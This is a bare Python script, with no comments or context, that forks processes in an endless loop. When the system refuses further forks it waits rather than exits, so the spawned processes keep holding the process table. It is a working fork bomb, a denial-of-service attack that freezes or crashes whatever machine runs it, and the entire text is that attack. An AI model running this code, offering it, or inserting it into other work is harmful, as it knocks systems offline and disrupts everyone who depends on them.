import os
import signal

try:
    while True:
        os.fork()
except OSError:
    signal.sigtimedwait([], 60)
